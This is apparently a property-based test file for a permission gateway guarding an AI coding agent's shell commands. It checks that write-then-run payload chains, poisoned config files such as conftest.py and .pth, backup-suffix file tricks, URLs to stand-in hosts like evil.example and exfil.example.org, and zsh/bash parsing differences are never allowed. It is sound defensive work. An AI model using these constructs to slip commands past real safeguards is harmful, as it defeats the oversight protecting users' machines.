"""Composed effects (issue 28), one property per class over generated neighbours, proved by
their effect in real bash (a copy of a committed sample project, a temporary HOME):

* write, then run: a writer (redirection, tee, cp, mv, sed -i, ln -s, cp -r, a cd first) puts
  a payload where a later part runs it (bash, sh, ./, source, ., python3), joined by &&, ;, a
  newline or ||: no hook allows it, and PreToolUse asks or denies;
* configuration (or project code) written, then a tool that reads it: the same;
* derived names: cp/mv/ln/install with every spelling of a backup option, sed -i with every
  spelling of a suffix, tar --backup/--suffix: whatever the run creates on the permission
  surface or among the files that run later is not allowed by either hook;
* URLs: a URL or remote in every spelling a tool reads, to a host nobody allowed, asks in
  both hooks (PreToolUse GW851);
* the user's zsh: a command the gateway allows under zsh does exactly what it does under
  bash (real zsh with the client's options, real bash, the same tree); a construct that
  differs is never allowed.

Each hook is reached through its entry function with the payload the client sends.
"""

import json
import os
import shlex
import shutil
import subprocess
import tempfile

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from gateway.decision import ALLOW
from tests.property.conftest import budget
from tests.property.support import tick

BASH = shutil.which("bash")
ZSH = shutil.which("zsh")
PAYLOAD = 'touch "$HOME/pwned"'


def _slow(n):
    """The property's budget, with no deadline: each example copies a project and runs real
    shells and the hooks (the first one compiles the rules)."""
    return settings(budget(n), deadline=None)


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    from helpers import make_committed_project

    root = make_committed_project(tmp_path_factory.mktemp("composed-template") / "proj")
    with open(os.path.join(root, "downloads", "run.sh"), "w") as fh:
        fh.write(PAYLOAD + "\n")
    return root


def _copy(template):
    base = tempfile.mkdtemp(prefix="composed-")
    proj = os.path.join(base, "proj")
    shutil.copytree(template, proj, symlinks=True)
    home = os.path.join(base, "home")
    os.makedirs(home)
    return base, os.path.realpath(proj), home


def _hooks(command, proj, mode, env_extra=None):
    """(validator, PermissionRequest, PreToolUse) decisions as strings ("none": no
    decision)."""
    from gateway.runtime import evaluate_guards as evaluate
    from gateway.hooks import permission_request
    from gateway.runtime import judge_bash

    env = dict(os.environ, CLAUDE_PROJECT_DIR=proj, **(env_extra or {}))
    saved = dict(os.environ)
    os.environ.update(env_extra or {})
    try:
        core = judge_bash(command, proj, proj, env=env, mode=mode)
        payload = {"session_id": "p", "cwd": proj, "permission_mode": mode,
                   "hook_event_name": "PermissionRequest", "tool_name": "Bash",
                   "tool_input": {"command": command}}
        pr, _ = permission_request.decide(json.dumps(payload).encode(), env)
        pre = evaluate(dict(payload, hook_event_name="PreToolUse"), env)
    finally:
        os.environ.clear()
        os.environ.update(saved)
    pre_d = "none" if (str(pre.decision) == "ask" and pre.code == "GW800") else str(pre.decision)
    return core, pr, pre, pre_d


def _run(shell, command, proj, home, extra=()):
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "HOME": home, "LANG": "C.UTF-8"}
    argv = [shell, *extra, "-c", command]
    return subprocess.run(argv, cwd=proj, env=env, capture_output=True, timeout=20,
                          stdin=subprocess.DEVNULL)


def _assert_no_hook_allows(command, proj, mode, why, env_extra=None):
    core, pr, pre, pre_d = _hooks(command, proj, mode, env_extra)
    assert core.decision is not ALLOW, (why, command, core.code, core.message)
    assert pr.decision is not ALLOW, (why, command, pr.code, pr.message)
    assert pre_d in ("ask", "deny"), (why, command, pre.code, pre.message)
    return core, pre


# --- write, then run ---------------------------------------------------------------------------

WRITERS = {
    "echo": "echo {q} > {s}",
    "printf": "printf '%s\\n' {q} > {s}",
    "append": "echo {q} >> {s}",
    "tee": "echo {q} | tee {s}",
    "cp": "cp downloads/run.sh {s}",
    "cat": "cat downloads/run.sh > {s}",
    "mv": "mv downloads/run.sh {s}",
    "dd": "dd if=downloads/run.sh of={s} status=none",
    "sed": "cp downloads/run.sh {s} && sed -i s/pwned/pwned/ {s}",
    "ln": "ln -s {up}downloads/run.sh {s}",
    "cp-r": "cp -r downloads {sd}",
}
RUNNERS = {"bash": "bash {s}", "sh": "sh {s}", "source": "source {s}", "dot": ". {s}",
           "direct": "chmod +x {s} && ./{s}", "env": "env bash {s}"}
TARGETS = ["scripts/new.sh", "scripts/run.sh", "scripts/sub/x.sh", ".claude/hooks/h.sh"]
JOINS = [" && ", "; ", "\n", " || true; "]


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
@_slow(60)
@given(writer=st.sampled_from(sorted(WRITERS)), runner=st.sampled_from(sorted(RUNNERS)),
       target=st.sampled_from(TARGETS), join=st.sampled_from(JOINS),
       mode=st.sampled_from(["acceptEdits", "default", "auto"]))
def test_write_then_run_is_never_allowed(template, writer, runner, target, join, mode):
    tick("write_then_run")
    base, proj, home = _copy(template)
    try:
        s = target
        sd = os.path.dirname(target) + "/dl"
        if writer == "cp-r":
            s = sd + "/run.sh"
        up = "../" * target.count("/")
        write = WRITERS[writer].format(q=shlex.quote(PAYLOAD), s=target, sd=sd, up=up)
        command = write + join + RUNNERS[runner].format(s=s)
        _assert_no_hook_allows(command, proj, mode, "write then run")
        # the attack is real: bash runs the payload
        _run(BASH, command, proj, home)
        assert os.path.exists(os.path.join(home, "pwned")) or writer in ("ln",) or \
            runner == "direct" and writer in ("dd",), (command, "the payload did not run")
    finally:
        shutil.rmtree(base, ignore_errors=True)


# --- configuration written, then read -------------------------------------------------------

CONFIGS = {
    "pytest -q src": ["pytest.ini", "tox.ini", "setup.cfg", "pyproject.toml", "conftest.py",
                      "src/conftest.py", "src/x.pth"],
    "make": ["Makefile", "GNUmakefile", "makefile"],
    "npm test": ["package.json", ".npmrc"],
    "ruff check src": ["ruff.toml", ".ruff.toml", "pyproject.toml"],
    "mypy src": ["mypy.ini", "setup.cfg", "pyproject.toml"],
    "python3 -m pytest -q src": ["pytest.ini", "conftest.py"],
    # a trusted script may run the project's other scripts: anything below scripts/
    "bash scripts/run.sh": ["scripts/lib.sh", "scripts/sub/x.py", "Makefile"],
}
CONFIG_WRITERS = ["printf 'x\\n' > {f}", "echo x >> {f}", "cp a.txt {f}", "echo x | tee {f}",
                  "sed -i s/x/y/ {f}", "touch {f}", "mkdir -p d && cp a.txt {f}"]


@_slow(60)
@given(tool=st.sampled_from(sorted(CONFIGS)), data=st.data(),
       writer=st.sampled_from(CONFIG_WRITERS), join=st.sampled_from(JOINS),
       mode=st.sampled_from(["acceptEdits", "auto"]))
def test_configuration_written_then_read_is_never_allowed(template, tool, data, writer, join,
                                                           mode):
    tick("config_then_tool")
    f = data.draw(st.sampled_from(CONFIGS[tool]))
    command = writer.format(f=f) + join + tool
    _assert_no_hook_allows(command, template, mode, "configuration written, then read")


# --- derived names ----------------------------------------------------------------------------

BACKUP_SPELLINGS = ["-b -S {x}", "-S {x}", "-S{x}", "--suffix={x}", "--suffix {x}",
                    "--suf={x}", "-bS {x}", "-fbS{x}", "--backup=simple -S {x}",
                    "--backup=existing --suffix={x}", "--backup=nil -S {x}",
                    "--backup=never -S{x}", "-b --suffix={x}"]
DESTS = {
    # (existing file, suffix): the backup lands on the permission surface / runs later
    ".claude/settings.local": ".json",
    ".venv/lib/python3.11/site-packages/plug": ".pth",
    ".venv/lib/python3.11/site-packages/sitecustomize": ".py",
}


def _surface_hits(before, proj):
    """New or changed paths (relative) the guards' write judgement objects to."""
    from gateway.guards.files import Surface
    from gateway.paths import Roots
    from gateway.runtime import get_policy

    policy = get_policy(proj)
    surface = Surface(Roots(proj, policy.allowed_dirs), policy, os.environ)
    hits = []
    for rel, sig in _snapshot(proj).items():
        if before.get(rel) != sig:
            p = os.path.join(proj, rel)
            if surface.check(p, os.path.realpath(p)):
                hits.append(rel)
    return hits


def _snapshot(proj):
    out = {}
    for base, dirs, files in os.walk(proj):
        if ".git" in dirs and base == proj:
            dirs.remove(".git")
        for f in files:
            p = os.path.join(base, f)
            try:
                st_ = os.lstat(p)
            except OSError:
                continue
            out[os.path.relpath(p, proj)] = (st_.st_size, st_.st_mtime_ns, st_.st_ino)
    return out


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
@_slow(80)
@given(tool=st.sampled_from(["cp", "mv", "ln", "ln -s", "install -m644"]),
       spelling=st.sampled_from(BACKUP_SPELLINGS), dest=st.sampled_from(sorted(DESTS)),
       form=st.sampled_from(["file", "dir", "-t"]), env_suffix=st.booleans(),
       mode=st.sampled_from(["acceptEdits", "auto"]))
def test_backup_names_are_judged(template, tool, spelling, dest, form, env_suffix, mode):
    tick("derived_backup")
    suffix = DESTS[dest]
    base, proj, home = _copy(template)
    try:
        d = os.path.join(proj, dest)
        os.makedirs(os.path.dirname(d), exist_ok=True)
        with open(d, "w") as fh:
            fh.write("old\n")
        src = "src/app.py"
        opts = spelling.format(x=suffix)
        if form == "file":
            command = f"{tool} {opts} {src} {dest}"
        else:
            # the destination directory gets app.py; its old app.py is backed up
            ddir = os.path.dirname(dest)
            shutil.copy(os.path.join(proj, src), os.path.join(proj, ddir, "app"))
            src = "src/app"
            shutil.copy(os.path.join(proj, "src/app.py"), os.path.join(proj, src))
            command = (f"{tool} {opts} {src} {ddir}/" if form == "dir"
                       else f"{tool} {opts} -t {ddir} {src}")
        extra = {"SIMPLE_BACKUP_SUFFIX": suffix} if env_suffix else {}
        before = _snapshot(proj)
        env = {"PATH": os.environ.get("PATH", ""), "HOME": home, **extra}
        subprocess.run([BASH, "-c", command], cwd=proj, env=env, capture_output=True,
                       timeout=20)
        hits = _surface_hits(before, proj)
        if hits:
            _assert_no_hook_allows(command, proj, mode, f"derived names {hits}", extra)
    finally:
        shutil.rmtree(base, ignore_errors=True)


SED_SPELLINGS = ["-i{x}", "-i'{x}'", "--in-place={x}", "--in-pl={x}", "-ni{x} -e p",
                 "-e s/a/b/ -i{x}", "-E -i{x}", "-si{x}", "-i'*{x}'", "-i'../.claude/*{x}'"]


@pytest.mark.skipif(BASH is None, reason="bash is not installed")
@_slow(40)
@given(spelling=st.sampled_from(SED_SPELLINGS), mode=st.sampled_from(["acceptEdits", "auto"]))
def test_sed_backup_names_are_judged(template, spelling, mode):
    tick("derived_sed")
    base, proj, home = _copy(template)
    try:
        target = ".claude/settings.local" if "../" not in spelling else "src/settings.local"
        shutil.copy(os.path.join(proj, "a.txt"), os.path.join(proj, target))
        opts = spelling.format(x=".json")
        prog = "" if "-e" in opts else "s/a/b/ "
        command = f"sed {opts} {prog}{target}"
        before = _snapshot(proj)
        _run(BASH, command, proj, home)
        hits = _surface_hits(before, proj)
        if hits:
            _assert_no_hook_allows(command, proj, mode, f"sed backup {hits}")
    finally:
        shutil.rmtree(base, ignore_errors=True)


# --- URLs are network ---------------------------------------------------------------------------

HOSTS = ["evil.example", "10.1.2.3", "exfil.example.org"]
URL_FORMS = {
    "gh api": ["http://{h}/?k=T", "https://{h}/x", "HTTPS://{h}:8443/p", "http://u:p@{h}/"],
    "npm view": ["http://{h}/x.tgz", "git+http://{h}/x", "git+ssh://git@{h}/x.git",
                 "git+https://{h}/x#main", "https://{h}/x.tgz"],
    "npm install": ["http://{h}/x.tgz", "git+https://{h}/r"],
    "pip download": ["http://{h}/x.tar.gz", "git+https://{h}/x", "x @ https://{h}/x.whl"],
    "pip install": ["--index-url=https://{h}/simple x", "-i https://{h}/simple x"],
    "go get": ["{h}/mod", "{h}/mod@v1.0.0"],
    "git ls-remote": ["https://{h}/r", "git@{h}:r.git", "ssh://{h}/r", "{h}:r"],
    "git fetch": ["https://{h}/r", "git@{h}:r.git"],
    "cargo install": ["--git https://{h}/r x", "--index https://{h}/i x"],
    "npm view lodash": ["--registry=https://{h}/"],
}


@_slow(80)
@given(tool=st.sampled_from(sorted(URL_FORMS)), data=st.data(), host=st.sampled_from(HOSTS),
       mode=st.sampled_from(["default", "acceptEdits", "auto"]))
def test_urls_to_hosts_nobody_allowed_ask(template, tool, data, host, mode):
    tick("urls")
    form = data.draw(st.sampled_from(URL_FORMS[tool]))
    arg = form.format(h=host)
    words = shlex.split(arg) if " " in arg and not arg.startswith("x @") else [arg]
    command = tool + " " + " ".join(shlex.quote(w) for w in words)
    _assert_no_hook_allows(command, template, mode, "network to a host nobody allowed")


# --- the user's zsh ---------------------------------------------------------------------------

ZSH_PIECES = ["echo a", "echo x >! f1", "echo x >| f2", "echo x >>! f3", "cat =(echo hi)",
              "echo <1-3>", "echo $=HOME", "echo ${(U)HOME}", "echo $HOME:h", "echo $#HOME",
              "echo $HOME[1]", "echo =ls", "echo {a-c}", "echo ^x", "echo HEAD~1", "ls f*",
              "echo a=~/x", "echo x > g1", "echo 'a\\nb' > g2", "printf '%s\\n' q > g3",
              "echo ${HOME}", "ls", "echo \"$HOME\"", "cat a.txt", "echo x#y"]


@pytest.mark.skipif(ZSH is None or BASH is None, reason="zsh and bash are needed")
@_slow(80)
@given(pieces=st.lists(st.sampled_from(ZSH_PIECES), min_size=1, max_size=3),
       join=st.sampled_from(["; ", " && "]))
def test_zsh_reading(template, pieces, join):
    """Allowed under zsh => zsh (with the client's options) and bash do the same; a command
    whose effect differs between them is never allowed under zsh."""
    tick("zsh")
    command = join.join(pieces)
    outs = []
    for shell, extra in ((ZSH, ["-o", "nobareglobqual", "+o", "equals", "+o", "hashdirs"]),
                         (BASH, [])):
        base, proj, home = _copy(template)
        try:
            for n in ("1", "2", "3", "f", "fa"):
                open(os.path.join(proj, n), "w").close()
            before = _snapshot(proj)
            proc = _run(shell, command, proj, home, extra)
            after = {}
            for rel in _snapshot(proj):
                if rel not in before:
                    with open(os.path.join(proj, rel), "rb") as fh:
                        after[rel] = fh.read()
            outs.append((proc.stdout.replace(home.encode(), b"H").replace(proj.encode(), b"P"),
                         after))
        finally:
            shutil.rmtree(base, ignore_errors=True)
    same = outs[0] == outs[1]
    core, _pr, _pre, pre_d = _hooks(command, template, "acceptEdits",
                                    {"SHELL": ZSH, "CLAUDE_CODE_SHELL": ""})
    if not same:
        assert core.decision is not ALLOW, (command, outs)
        assert pre_d != "allow", (command, outs)
    assume(True)
